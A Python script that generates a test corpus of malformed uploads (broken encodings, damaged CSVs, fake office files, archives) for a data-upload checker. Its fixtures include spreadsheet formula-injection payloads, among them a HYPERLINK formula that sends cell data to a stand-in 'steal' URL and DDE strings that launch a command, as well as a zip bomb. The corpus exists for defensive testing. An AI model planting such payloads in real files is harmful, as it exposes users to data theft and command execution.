"""(Re)create the corpus of malformed uploads in this folder, byte for byte the same on every run.

    .venv/bin/python tests/measurement/bad_files/make_corpus.py

Every file of the corpus is written here — the text files too, so that one script is the whole
source of truth and the stray bytes (NULs, Mac Roman accents, mixed line ends) are visible in
code rather than hidden in a file. Binary files (workbooks, compound files, archives, pictures)
are assembled by hand from their published layouts, with fixed timestamps, so that nothing
depends on the clock or on the library versions that wrote them. The expectations live in
``tests/measurement/test_bad_files.py``; ``README.md`` explains each file.
"""

from __future__ import annotations

import csv
import gzip
import io
import random
import struct
import zipfile
import zlib
from pathlib import Path
from xml.sax.saxutils import escape

HERE = Path(__file__).resolve().parent
HEADER = ["indicator", "place", "period", "value", "numerator", "denominator", "organization"]
HEADER += ["shelter", "note"]
WHEN = (2024, 1, 1, 0, 0, 0)


def csv_text(rows: list[list[object]], *, delimiter: str = ",", newline: str = "\n") -> str:
    out = io.StringIO()
    writer = csv.writer(out, delimiter=delimiter, lineterminator=newline)
    writer.writerows(rows)
    return out.getvalue()


def row(indicator="homeless", place="A", period="2023", value="", num="", den="", org="", **kw):
    return [
        indicator,
        place,
        period,
        value,
        num,
        den,
        org,
        kw.get("shelter", ""),
        kw.get("note", ""),
    ]


# --- zip archives and workbooks -----------------------------------------------------------------


def zip_bytes(members: dict[str, bytes], *, stored: tuple[str, ...] = ()) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, data in members.items():
            info = zipfile.ZipInfo(name, date_time=WHEN)
            info.create_system = 3
            info.external_attr = 0o644 << 16
            info.compress_type = zipfile.ZIP_STORED if name in stored else zipfile.ZIP_DEFLATED
            archive.writestr(info, data, compresslevel=9)
    return out.getvalue()


class Formula:
    """A formula cell; ``cached`` is the result Excel saved with it (``None``: none saved)."""

    def __init__(self, text: str, cached: float | None = None) -> None:
        self.text, self.cached = text, cached


class Day:
    """A date cell: a serial number with a date format, as Excel stores dates."""

    def __init__(self, year: int, month: int, day: int) -> None:
        from datetime import date

        self.serial = (date(year, month, day) - date(1899, 12, 30)).days


def _letter(index: int) -> str:
    letters = ""
    index += 1
    while index:
        index, rest = divmod(index - 1, 26)
        letters = chr(65 + rest) + letters
    return letters


def _cell(ref: str, value: object) -> str:
    if value is None or value == "":
        return ""
    if isinstance(value, Formula):
        cached = "" if value.cached is None else f"<v>{value.cached}</v>"
        return f'<c r="{ref}"><f>{escape(value.text)}</f>{cached}</c>'
    if isinstance(value, Day):
        return f'<c r="{ref}" s="1"><v>{value.serial}</v></c>'
    if isinstance(value, int | float):
        return f'<c r="{ref}"><v>{value}</v></c>'
    return f'<c r="{ref}" t="inlineStr"><is><t>{escape(str(value))}</t></is></c>'


MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
DOC_RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
SHEET_CT = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
MACRO_CT = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"


def sheet_xml(rows: list[list[object]], padding: int = 0) -> bytes:
    lines = []
    for r, cells in enumerate(rows, start=1):
        body = "".join(_cell(f"{_letter(c)}{r}", v) for c, v in enumerate(cells))
        lines.append(f'<row r="{r}">{body}</row>')
    width = max((len(r) for r in rows), default=1)
    dimension = f"A1:{_letter(width - 1)}{max(len(rows), 1)}"
    head = f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<worksheet xmlns="{MAIN}">'
    head += f'<dimension ref="{dimension}"/><sheetData>'
    # ``padding``: blank space between elements (legal XML) that packs to almost nothing.
    return (head + "".join(lines)).encode() + b" " * padding + b"</sheetData></worksheet>"


def xlsx(
    rows: list[list[object]],
    *,
    sheet: str = "data",
    padding: int = 0,
    macros: bool = False,
    linked_file: str = "",
) -> bytes:
    """A minimal SpreadsheetML workbook with one sheet (inline strings, one date style)."""
    overrides = [
        ("/xl/workbook.xml", MACRO_CT if macros else SHEET_CT),
        (
            "/xl/worksheets/sheet1.xml",
            "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml",
        ),
        (
            "/xl/styles.xml",
            "application/vnd.openxmlformats-officedocument.spreadsheetml.styles+xml",
        ),
    ]
    rels = [
        ("rId1", f"{DOC_RELS}/worksheet", "worksheets/sheet1.xml", ""),
        ("rId2", f"{DOC_RELS}/styles", "styles.xml", ""),
    ]
    members: dict[str, bytes] = {}
    references = ""
    if macros:
        overrides.append(("/xl/vbaProject.bin", "application/vnd.ms-office.vbaProject"))
        rels.append(
            (
                "rId3",
                "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
                "vbaProject.bin",
                "",
            )
        )
        members["xl/vbaProject.bin"] = cfb({"VBA": b'Attribute VB_Name = "Module1"\r\n'})
    if linked_file:
        overrides.append(
            (
                "/xl/externalLinks/externalLink1.xml",
                "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml",
            )
        )
        rels.append(("rId3", f"{DOC_RELS}/externalLink", "externalLinks/externalLink1.xml", ""))
        references = '<externalReferences><externalReference r:id="rId3"/></externalReferences>'
        members["xl/externalLinks/externalLink1.xml"] = (
            f'<?xml version="1.0" encoding="UTF-8"?><externalLink xmlns="{MAIN}" '
            f'xmlns:r="{DOC_RELS}"><externalBook r:id="rId1"><sheetNames>'
            '<sheetName val="Counts"/></sheetNames><sheetDataSet><sheetData sheetId="0">'
            '<row r="2"><cell r="D2"><v>120</v></cell></row></sheetData></sheetDataSet>'
            "</externalBook></externalLink>"
        ).encode()
        members["xl/externalLinks/_rels/externalLink1.xml.rels"] = (
            f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{RELS}">'
            f'<Relationship Id="rId1" Type="{DOC_RELS}/externalLinkPath" '
            f'Target="{escape(linked_file)}" TargetMode="External"/></Relationships>'
        ).encode()
    types = "".join(f'<Override PartName="{p}" ContentType="{t}"/>' for p, t in overrides)
    content_types = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" '
        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f"{types}</Types>"
    )
    workbook = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        f'<workbook xmlns="{MAIN}" xmlns:r="{DOC_RELS}"><sheets>'
        f'<sheet name="{escape(sheet)}" sheetId="1" r:id="rId1"/></sheets>{references}</workbook>'
    )
    workbook_rels = f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{RELS}">'
    workbook_rels += "".join(
        f'<Relationship Id="{i}" Type="{t}" Target="{target}"{mode}/>'
        for i, t, target, mode in rels
    )
    workbook_rels += "</Relationships>"
    styles = (
        f'<?xml version="1.0" encoding="UTF-8"?><styleSheet xmlns="{MAIN}">'
        '<fonts count="1"><font><sz val="11"/><name val="Calibri"/></font></fonts>'
        '<fills count="1"><fill><patternFill patternType="none"/></fill></fills>'
        '<borders count="1"><border/></borders>'
        '<cellStyleXfs count="1"><xf numFmtId="0" fontId="0" fillId="0" borderId="0"/>'
        '</cellStyleXfs><cellXfs count="2">'
        '<xf numFmtId="0" fontId="0" fillId="0" borderId="0" xfId="0"/>'
        '<xf numFmtId="14" fontId="0" fillId="0" borderId="0" xfId="0" applyNumberFormat="1"/>'
        '</cellXfs><cellStyles count="1"><cellStyle name="Normal" xfId="0" builtinId="0"/>'
        "</cellStyles></styleSheet>"
    )
    package_rels = (
        f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{RELS}">'
        f'<Relationship Id="rId1" Type="{DOC_RELS}/officeDocument" Target="xl/workbook.xml"/>'
        "</Relationships>"
    )
    parts = {
        "[Content_Types].xml": content_types.encode(),
        "_rels/.rels": package_rels.encode(),
        "xl/workbook.xml": workbook.encode(),
        "xl/_rels/workbook.xml.rels": workbook_rels.encode(),
        "xl/styles.xml": styles.encode(),
        "xl/worksheets/sheet1.xml": sheet_xml(rows, padding),
    }
    return zip_bytes({**parts, **members})


# --- OLE compound files: .xls, .doc and password-protected .xlsx --------------------------------

FREE, END, FAT_SECTOR, NO_STREAM = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF


def cfb(streams: dict[str, bytes]) -> bytes:
    """A version-3 compound file (512-byte sectors). Streams are padded to 4,096 bytes so that
    they live in ordinary sectors (no mini stream)."""
    size = 512
    data_sectors: list[bytes] = []
    entries = [("Root Entry", 5, END, 0)]
    for name, data in streams.items():
        data = data.ljust(4096, b"\x00")
        first = 2 + len(data_sectors)
        chunks = [data[i : i + size].ljust(size, b"\x00") for i in range(0, len(data), size)]
        data_sectors += chunks
        entries.append((name, 2, first, len(data)))
    fat = [FAT_SECTOR, END]
    for _name, _kind, first, length in entries[1:]:
        count = -(-length // size)
        fat += [first + i + 1 for i in range(count - 1)] + [END]
    fat += [FREE] * (128 - len(fat))
    directory = b""
    for index, (name, kind, first, length) in enumerate(entries):
        encoded = name.encode("utf-16-le") + b"\x00\x00"
        child = 1 if index == 0 and len(entries) > 1 else NO_STREAM
        right = index + 1 if 0 < index < len(entries) - 1 else NO_STREAM
        directory += _directory_entry(encoded, kind, right, child, first, length)
    while len(directory) % size:  # unused slots: empty entries that point nowhere
        directory += _directory_entry(b"", 0, NO_STREAM, NO_STREAM, 0, 0)
    header = (
        bytes.fromhex("d0cf11e0a1b11ae1")
        + b"\x00" * 16
        + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
        + b"\x00" * 6
        + struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, END, 0, END, 0)
        + struct.pack("<I", 0)
        + struct.pack("<108I", *([FREE] * 108))
    )
    assert len(header) == 512, len(header)
    fat_sector = struct.pack("<128I", *fat)
    return header + fat_sector + directory + b"".join(data_sectors)


def _directory_entry(
    name: bytes, kind: int, right: int, child: int, first: int, size: int
) -> bytes:
    return (
        name.ljust(64, b"\x00")
        + struct.pack("<HBB3I", len(name), kind, 1, NO_STREAM, right, child)
        + b"\x00" * 36  # class id, state bits, created, modified
        + struct.pack("<IQ", first, size)
    )


def biff_workbook() -> bytes:
    bof = struct.pack("<HHHHHHII", 0x0809, 16, 0x0600, 0x0005, 0x1FA5, 1997, 0, 6)
    eof = struct.pack("<HH", 0x000A, 0)
    return bof + eof


# --- other kinds of file ------------------------------------------------------------------------


def png() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    width = height = 8
    raw = b"".join(b"\x00" + b"\x20\x60\xa0" * width for _ in range(height))
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
        + chunk(b"IDAT", zlib.compress(raw, 9))
        + chunk(b"IEND", b"")
    )


def pdf() -> bytes:
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
        b"<< /Length 44 >>\nstream\nBT /F1 12 Tf 72 720 Td (Figures 2023) Tj ET\nendstream",
    ]
    out = b"%PDF-1.4\n"
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return out


def ods() -> bytes:
    mimetype = b"application/vnd.oasis.opendocument.spreadsheet"
    manifest = (
        b'<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest='
        b'"urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><manifest:file-entry '
        b'manifest:full-path="/" manifest:media-type="' + mimetype + b'"/><manifest:file-entry '
        b'manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>'
    )
    content = (
        b'<?xml version="1.0" encoding="UTF-8"?><office:document-content xmlns:office='
        b'"urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:table='
        b'"urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:text='
        b'"urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body><office:spreadsheet>'
        b'<table:table table:name="data"><table:table-row><table:table-cell><text:p>indicator'
        b"</text:p></table:table-cell></table:table-row></table:table></office:spreadsheet>"
        b"</office:body></office:document-content>"
    )
    return zip_bytes(
        {"mimetype": mimetype, "META-INF/manifest.xml": manifest, "content.xml": content},
        stored=("mimetype",),
    )


def docx() -> bytes:
    types = (
        b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/'
        b'package/2006/content-types"><Default Extension="rels" ContentType="application/'
        b'vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" '
        b'ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType='
        b'"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
        b"</Types>"
    )
    rels = (
        f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{RELS}"><Relationship '
        f'Id="rId1" Type="{DOC_RELS}/officeDocument" Target="word/document.xml"/></Relationships>'
    ).encode()
    document = (
        b'<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.'
        b'openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>'
        b"Homelessness figures 2023: A 120, B 80</w:t></w:r></w:p></w:body></w:document>"
    )
    return zip_bytes(
        {"[Content_Types].xml": types, "_rels/.rels": rels, "word/document.xml": document}
    )


# --- the corpus ---------------------------------------------------------------------------------


def corpus() -> dict[str, bytes]:
    files: dict[str, bytes] = {}
    good_rows = [HEADER, row(value=120), row(place="B", value=80)]

    def text(name: str, content: str, encoding: str = "utf-8") -> None:
        files[name] = content.encode(encoding)

    # Encodings and separators.
    files["empty.csv"] = b""
    text("whitespace-only.csv", "   \r\n\t\r\n    \r\n")
    text("headings-only.csv", csv_text([HEADER]))
    text(
        "utf16-without-bom.csv",
        csv_text(
            [HEADER, row(value=120, note="Señal"), row(place="B", value=80)],
            delimiter="\t",
            newline="\r\n",
        ),
        "utf-16-le",
    )
    text(
        "mac-roman-accents.csv",
        csv_text([HEADER, row(value=120), row(place="B", value=80, note="Counted in Genève")]),
        "mac_roman",
    )
    text(
        "latin1-accents.csv",
        csv_text([HEADER, row(value=120, note="Señal"), row(place="B", value=80)]),
        "latin-1",
    )
    files["utf8-bom-semicolons.csv"] = b"\xef\xbb\xbf" + csv_text(
        [HEADER, row(value=120), row(place="B", value=80), row(place="R", value=200)],
        delimiter=";",
        newline="\r\n",
    ).encode("utf-8")
    text("pipe-separated.csv", "indicator|place|period|value\nhomeless|A|2023|120\n")
    text(
        "mixed-line-endings.csv",
        "indicator,place,period,value\r\nhomeless,A,2023,120\nhomeless,B,2023,80\r"
        "homeless,R,2023,200\r\nhomeless,A,2022,110\n",
    )

    # Not a table at all.
    files["binary-garbage.csv"] = b"\x7fELF" + random.Random(7).randbytes(4092)
    files["chart-picture.csv"] = png()
    files["report.pdf"] = pdf()
    text(
        "web-page.csv",
        "<!DOCTYPE html>\n<html><head><title>Sign in</title></head>\n"
        "<body><form method=post><input name=password></form></body></html>\n",
    )
    files["figures.csv.gz"] = gzip.compress(csv_text(good_rows).encode(), mtime=0)

    # Damaged text.
    text(
        "nul-byte.csv",
        csv_text([HEADER, row(value=120)]) + "homeless,B,2023,80,,,,,Count\x00ed twice\n",
    )
    text(
        "unterminated-quote.csv",
        csv_text([HEADER, row(value=120)])
        + 'homeless,B,2023,"80,,,,,\n'
        + csv_text([row(place="R", value=200), row(period="2022", value=110)]),
    )
    text(
        "text-after-quote.csv",
        csv_text([HEADER]) + 'homeless,A,2023,"12"0,,,,,\n',
    )
    text(
        "giant-cell.csv",
        csv_text([HEADER, row(value=120, note="x" * 140_000)]),
    )

    # Headings.
    text("missing-columns.csv", "indicator,value\nhomeless,120\n")
    text(
        "duplicate-headings.csv",
        "indicator,place,period,value,Value\nhomeless,A,2023,120,120\n",
    )
    text(
        "title-above-headings.csv",
        "Homelessness in our region, 2023\n\n"
        + csv_text([HEADER[:4], ["homeless", "A", "2023", "120"]]),
    )
    text(
        "extra-cells.csv",
        "indicator,place,period,value\nhomeless,A,2023,120\nhomeless,B,2023,1,234\n",
    )

    # Cells.
    text("huge-cell.csv", csv_text([HEADER, row(place="A" * 100_000, value=120)]))
    text("long-note.csv", csv_text([HEADER, row(value=120, note="Counted on one night. " * 30)]))
    formulas = [
        '=HYPERLINK("http://example.com/steal?d="&A2,"Click for details")',
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
    ]
    text(
        "formula-in-note.csv",
        csv_text(
            [
                HEADER,
                row(value=120, note=formulas[0]),
                row(place="B", value=80, note=formulas[1]),
                row(place="R", value=200, note=formulas[2]),
            ]
        ),
    )
    text(
        "formula-in-code.csv",
        csv_text(
            [
                HEADER,
                row(place='=HYPERLINK("http://example.com","A")', value=120),
                row(indicator="@SUM(1+1)", value=80),
                row(indicator="screened", num=9, den=10, org="+cmd|' /C calc'!A0"),
            ]
        ),
    )
    text(
        "excel-error-values.csv",
        csv_text(
            [
                HEADER,
                row(value="#DIV/0!"),
                row(indicator="screened", num="#N/A", den=10, org="CLINIC"),
            ]
        ),
    )
    text(
        "numbers-as-people-write-them.csv",
        csv_text(
            [
                HEADER,
                row(value="1,234"),
                row(place="B", value=" 7 "),
                row(indicator="screened", value="90%", num=9, den=10, org="CLINIC"),
            ]
        ),
    )
    text(
        "decimal-comma.csv",
        csv_text(
            [
                HEADER[:7],
                ["screened", "A", "2023", "12,5", "1", "8", "CLINIC"],
                ["homeless", "B", "2023", "1.234,0", "", "", ""],
            ],
            delimiter=";",
            newline="\r\n",
        ),
    )
    text("percent-sign-on-a-count.csv", csv_text([HEADER, row(value="12%")]))
    text("date-in-value.csv", csv_text([HEADER, row(value="2023-01-05")]))
    text(
        "too-large-number.csv",
        csv_text([HEADER, row(value="100000000000000"), row(place="B", value="1e20")]),
    )

    # Codes and keys.
    text(
        "unknown-codes.csv",
        csv_text(
            [
                HEADER,
                row(indicator="homelessness", value=120),
                row(place="Z9", value=80),
                row(place="B", value=50, shelter="outside"),
                row(indicator="screened", num=9, den=10, org="Nobody Inc"),
            ]
        ),
    )
    text(
        "duplicate-rows.csv",
        csv_text([HEADER, row(value=120), row(place="a", value=121), row(place="B", value=80)]),
    )
    text(
        "over-the-limit.csv",
        csv_text([HEADER] + [row(period=str(y), value=100 + y % 50) for y in range(1980, 2024)]),
    )

    # Office files and archives.
    files["old-excel.xls"] = cfb({"Workbook": biff_workbook()})
    files["password-protected.xlsx"] = cfb(
        {
            "EncryptionInfo": struct.pack("<HHI", 4, 4, 0x40)
            + b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n<encryption '
            b'xmlns="http://schemas.microsoft.com/office/2006/encryption"/>',
            "EncryptedPackage": struct.pack("<Q", 6000) + random.Random(11).randbytes(6000),
        }
    )
    files["zip-of-csvs.xlsx"] = zip_bytes(
        {
            "figures-2023.csv": csv_text(good_rows).encode(),
            "figures-2024.csv": csv_text(good_rows).replace("2023", "2024").encode(),
            "read me.txt": b"Figures from the county, as sent.\n",
        }
    )
    files["zip-bomb.xlsx"] = xlsx([HEADER[:4], ["homeless", "A", "2023", 120]], padding=60_000_000)
    files["macros.xlsm"] = xlsx([HEADER[:4], ["homeless", "A", "2023", 120]], macros=True)
    files["external-links.xlsx"] = xlsx(
        [HEADER[:4], ["homeless", "A", "2023", Formula("[1]Counts!D2", 120)]],
        linked_file="file:///C:/Users/Finance/Counts%202023.xlsx",
    )
    files["formula-without-result.xlsx"] = xlsx(
        [
            HEADER[:4],
            ["homeless", "A", "2023", Formula("SUM(F2:F9)")],
            ["homeless", "B", "2023", Formula("40*2", 80)],
        ]
    )
    files["date-in-value.xlsx"] = xlsx([HEADER[:4], ["homeless", "A", "2023", Day(2023, 1, 5)]])
    files["empty-sheet.xlsx"] = xlsx([], sheet="Figures")
    files["headings-in-row-3.xlsx"] = xlsx(
        [["Homelessness in our region, 2023"], [], HEADER[:4], ["homeless", "A", "2023", 120]]
    )
    good_book = xlsx(
        [HEADER[:4]] + [["homeless", "A", str(y), y - 1900] for y in range(1990, 2024)]
    )
    files["damaged.xlsx"] = good_book[: len(good_book) * 2 // 3]
    files["opendocument.ods"] = ods()
    files["word-document.docx"] = docx()
    return files


def main() -> None:
    made = corpus()
    for name, data in sorted(made.items()):
        (HERE / name).write_bytes(data)
        print(f"{len(data):>8,}  {name}")
    stale = {
        p.name for p in HERE.iterdir() if p.is_file() and p.suffix not in (".py", ".md")
    } - set(made)
    for name in sorted(stale):
        print(f"not made by this script (delete it or add it here): {name}")


if __name__ == "__main__":
    main()
